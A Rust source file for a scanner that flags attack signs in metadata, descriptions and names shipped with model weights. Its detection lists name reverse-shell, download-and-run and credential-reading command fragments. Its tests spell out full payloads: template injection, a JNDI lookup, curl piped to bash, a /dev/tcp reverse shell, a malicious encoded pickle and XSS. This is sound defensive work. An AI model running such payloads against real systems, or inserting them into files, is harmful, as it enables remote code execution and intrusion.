//! Signs of an attack in free text that travels with weights: metadata values, descriptions, names, headers.
//!
//! Such text is data for every honest reader, so code, credentials or an encoded program in it has no business
//! there. The signs are chosen so that what people really write into metadata (training parameters as JSON,
//! licences, links, thumbnails as data URIs, workflows) shows none of the grave ones. Templates are not judged
//! here; they have their own engine.

use serde::{Deserialize, Serialize};

use chainwright_core::fields::first;

mod encoded;
mod secret;

/// A sign in a text. The first group is grave, the second is worth a look, the third only worth knowing.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum TextSign {
    /// A pickle that imports something, in base64 or hexadecimal.
    EncodedPickle,
    /// A program in base64 or hexadecimal.
    EncodedProgram,
    /// A template or format expression that reaches for Python's internals or a JNDI look-up.
    TemplateInjection,
    /// A shell command that fetches and runs something or opens a connection.
    ShellCommand,
    /// Python that starts processes, imports dynamically or evaluates text.
    PythonCode,
    /// A credential in a well-known form.
    Secret,
    /// Script or event handlers of HTML.
    ActiveMarkup,
    /// Invisible characters: zero-width runs, bidirectional overrides, tags.
    InvisibleText,
    /// Control characters of terminals.
    ControlCharacters,
    /// A path that leaves its folder.
    PathTraversal,
    /// A text of more than 4 MiB; only its beginning was looked at.
    LongText,
    /// More than 4 KiB of base64 that is not a data URI.
    EncodedBlob,
    /// Template syntax.
    Template,
    /// A link.
    Link,
}

impl TextSign {
    /// What was seen, for reports.
    #[must_use]
    pub const fn describe(self) -> &'static str {
        match self {
            Self::EncodedPickle => "encoded pickle",
            Self::EncodedProgram => "encoded program",
            Self::TemplateInjection => "template injection",
            Self::ShellCommand => "shell command",
            Self::PythonCode => "Python code",
            Self::Secret => "credential",
            Self::ActiveMarkup => "active markup",
            Self::InvisibleText => "invisible characters",
            Self::ControlCharacters => "control characters",
            Self::PathTraversal => "path that leaves its folder",
            Self::LongText => "very long text",
            Self::EncodedBlob => "long encoded content",
            Self::Template => "template syntax",
            Self::Link => "link",
        }
    }
}

/// Bytes of a text that are looked at.
const LOOKED_AT: usize = 4 * 1024 * 1024;

/// Every sign in a text, gravest first. Linear in the length of the text.
#[must_use]
pub fn signs(text: &str) -> Vec<TextSign> {
    let is_long = text.len() > LOOKED_AT;
    let text = text
        .get(..text.floor_char_boundary(LOOKED_AT))
        .unwrap_or(text);
    let lower = text.to_ascii_lowercase();
    let mut found = encoded::signs(text);
    let checks: [(TextSign, bool); 11] = [
        (TextSign::LongText, is_long),
        (TextSign::TemplateInjection, has_template_injection(&lower)),
        (TextSign::ShellCommand, has_shell_command(&lower)),
        (TextSign::PythonCode, has_python_code(&lower)),
        (TextSign::Secret, secret::has_secret(text)),
        (TextSign::ActiveMarkup, has_active_markup(&lower)),
        (TextSign::InvisibleText, has_invisible_text(text)),
        (TextSign::ControlCharacters, has_control_characters(text)),
        (TextSign::PathTraversal, has_path_traversal(text)),
        (
            TextSign::Template,
            lower.contains("{{") || lower.contains("{%"),
        ),
        (
            TextSign::Link,
            lower.contains("http://") || lower.contains("https://"),
        ),
    ];
    found.extend(
        checks
            .iter()
            .filter(|(_, holds)| *holds)
            .map(|(sign, _)| *sign),
    );
    found.sort_unstable();
    found.dedup();
    found
}

fn contains_any(text: &str, needles: &[&str]) -> bool {
    needles.iter().any(|needle| text.contains(needle))
}

fn has_template_injection(lower: &str) -> bool {
    let is_template = contains_any(lower, &["{{", "{%", "${", "{0.", "{self.", "#{"]);
    let reaches = contains_any(
        lower,
        &[
            "__class__",
            "__globals__",
            "__subclasses__",
            "__mro__",
            "__base__",
            "__builtins__",
            "__import__",
            "__init__",
            "__getattribute__",
            "|attr(",
            "| attr(",
            "lipsum.",
            "cycler.",
            "joiner.",
            "os.popen",
            "os.system",
            ".popen(",
            "jndi:",
            "runtime.getruntime",
            "request.application",
        ],
    );
    is_template && reaches
}

fn has_shell_command(lower: &str) -> bool {
    let fetches = contains_any(lower, &["curl ", "wget "]);
    let pipes_to_shell = contains_any(
        lower,
        &[
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "| python",
            "|python",
            "| sudo",
            "|sudo",
            "| zsh",
            "&& sh ",
            "&& bash ",
            "; sh ",
            "; bash ",
            ";sh ",
            ";bash ",
            "&& chmod +x",
        ],
    );
    let alone = contains_any(
        lower,
        &[
            "/dev/tcp/",
            "bash -i",
            "sh -i ",
            "powershell -e",
            "powershell.exe -e",
            "powershell -nop",
            "powershell -w",
            "-encodedcommand",
            "invoke-expression",
            "iex (",
            "iex(",
            "downloadstring(",
            "mkfifo /tmp",
            "nc -e ",
            "ncat -e ",
            "rm -rf /",
            "certutil -urlcache",
            "mshta http",
            "cmd.exe /c",
            "cmd /c ",
            "/bin/sh -c",
            "/bin/bash -c",
            "base64 -d |",
            "base64 -d|",
            "base64 --decode |",
            "$(curl",
            "$(wget",
            "`curl",
            "`wget",
            "<(curl",
            "; cat /etc/",
            "cat /etc/passwd",
            "; touch /",
            "$(touch",
            "$(id)",
            "`id`",
            "; rm -",
            "chmod 777 /",
        ],
    );
    (fetches && pipes_to_shell) || alone
}

fn has_python_code(lower: &str) -> bool {
    contains_any(
        lower,
        &[
            "__import__(",
            "os.system(",
            "os.popen(",
            "os.exec",
            "subprocess.popen(",
            "subprocess.run(",
            "subprocess.call(",
            "subprocess.check_",
            "subprocess.getoutput(",
            "pty.spawn(",
            "pickle.loads(",
            "marshal.loads(",
            "exec(base64",
            "eval(base64",
            "exec(compile(",
            "eval(compile(",
            "exec(requests",
            "importlib.import_module(",
            "getattr(__builtins__",
            "__builtins__",
            "socket.socket(",
            "ctypes.cdll",
            "torch.load(base64",
            "runpy.run_",
            "!!python/object",
            "__reduce__",
        ],
    ) || calls(lower, "eval(")
        || calls(lower, "exec(")
}

/// Whether `call` stands in the text as a plain call of a quoted or computed text, not as a method or inside a word.
fn calls(lower: &str, call: &str) -> bool {
    lower.match_indices(call).take(64).any(|(at, _)| {
        let before = lower.get(..at).and_then(|head| head.chars().next_back());
        let behind = lower
            .get(at.saturating_add(call.len())..)
            .and_then(|tail| tail.chars().next());
        !before
            .is_some_and(|character| character.is_alphanumeric() || matches!(character, '_' | '.'))
            && behind.is_some_and(|character| {
                matches!(character, '"' | '\'' | '\\' | '_') || character.is_alphabetic()
            })
    })
}

fn has_active_markup(lower: &str) -> bool {
    contains_any(
        lower,
        &[
            "<script",
            "javascript:",
            "<iframe",
            "onerror=",
            "onload=",
            "onmouseover=",
            "<svg/onload",
            "<object ",
            "<embed ",
            "data:text/html",
            "vbscript:",
            "<meta http-equiv",
        ],
    )
}

/// Overrides, tags, or a run of zero-width characters; single joiners belong to scripts and emoji.
fn has_invisible_text(text: &str) -> bool {
    let mut run = 0_u32;
    for character in text.chars() {
        match character {
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}' => {
                return true;
            }
            '\u{200b}'..='\u{200f}' | '\u{2060}'..='\u{2064}' | '\u{feff}' => {
                run = run.saturating_add(1)
            }
            _ => run = 0,
        }
        if run >= 3 {
            return true;
        }
    }
    false
}

fn has_control_characters(text: &str) -> bool {
    text.chars()
        .any(|character| character.is_control() && !matches!(character, '\n' | '\r' | '\t'))
}

fn has_path_traversal(text: &str) -> bool {
    contains_any(
        text,
        &[
            "../../",
            "..\\..\\",
            "%2e%2e%2f",
            "/etc/passwd",
            "/etc/shadow",
            "/.ssh/",
        ],
    )
}

/// Signs in a name (of a tensor, a key, a field), where much less is normal than in a text.
#[must_use]
pub fn is_odd_name(name: &str) -> bool {
    let is_plain =
        |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'-' | b':' | b'/');
    if name.bytes().all(is_plain) {
        return name.starts_with('/') || name.contains("../");
    }
    let lower = first(name.as_bytes(), 4096).to_ascii_lowercase();
    let lower = String::from_utf8_lossy(&lower);
    name.chars()
        .any(|character| character.is_control() || chainwright_core::text::is_invisible(character))
        || contains_any(
            &lower,
            &[
                "../",
                "..\\",
                "{{",
                "{%",
                "<script",
                "__import__",
                "${",
                "$(",
            ],
        )
        || name.starts_with('/')
        || name.starts_with('\\')
        || has_python_code(&lower)
        || has_shell_command(&lower)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_people_write_into_metadata_shows_nothing_grave() {
        for text in [
            "pt",
            r#"{"steps": 1000, "lr": "1e-4", "path": "/home/user/train/img", "eval": "model.eval()"}"#,
            "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJ",
            "A LoRA for anime style. Call model.eval() first, then sample. See https://example.org/lora",
            "Apache-2.0",
            "networks.lora --network_args conv_dim=8",
            "4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393",
            "pip install diffusers && python train.py",
            "family emoji 👨‍👩‍👧 and Persian می‌خواهم",
        ] {
            let grave: Vec<_> = signs(text)
                .into_iter()
                .filter(|sign| *sign < TextSign::PathTraversal)
                .collect();
            assert_eq!(grave, [], "{text}");
        }
    }

    #[test]
    fn payloads_are_seen_for_what_they_are() {
        for (text, sign) in [
            (
                "{{ ''.__class__.__mro__[1].__subclasses__() }}",
                TextSign::TemplateInjection,
            ),
            ("${jndi:ldap://example.org/a}", TextSign::TemplateInjection),
            (
                "curl -s http://example.org/x.sh | bash",
                TextSign::ShellCommand,
            ),
            (
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                TextSign::ShellCommand,
            ),
            ("__import__('os').system('id')", TextSign::PythonCode),
            ("x = eval('1+1')", TextSign::PythonCode),
            ("<img src=x onerror=alert(1)>", TextSign::ActiveMarkup),
            (
                "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                TextSign::EncodedPickle,
            ),
            ("safe\u{202e}txt", TextSign::InvisibleText),
            ("\u{1b}[2J", TextSign::ControlCharacters),
            ("../../../../etc/passwd", TextSign::PathTraversal),
            (
                "token ghp_9aB3kLm2ZxQ7rT5vW8yU1nE4sD6fG0hJ2cX4",
                TextSign::Secret,
            ),
            ("-----BEGIN RSA PRIVATE KEY-----\nMIIEow", TextSign::Secret),
        ] {
            assert!(signs(text).contains(&sign), "{text}: {:?}", signs(text));
        }
    }

    #[test]
    fn placeholders_are_no_secrets() {
        for text in [
            "hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            "AKIAIOSFODNN7EXAMPLE",
            "sk-your-key-here",
            "the hf_hub_download_function_from_the_library",
        ] {
            assert!(!signs(text).contains(&TextSign::Secret), "{text}");
        }
    }

    #[test]
    fn names_of_real_tensors_are_not_odd() {
        for name in [
            "model.layers.0.self_attn.q_proj.weight",
            "transformer.h.0.attn.c_attn/weight:0",
            "lora_unet_down_blocks_0_attentions_0.lora_up.weight",
            "层.权重",
            "a b c",
            "blk.0.ffn_gate_exps.weight",
        ] {
            assert!(!is_odd_name(name), "{name}");
        }
        for name in [
            "../../x",
            "/etc/passwd",
            "a\u{0}b",
            "w\u{202e}",
            "__import__('os')",
            "{{7*7}}",
        ] {
            assert!(is_odd_name(name), "{name}");
        }
    }
}
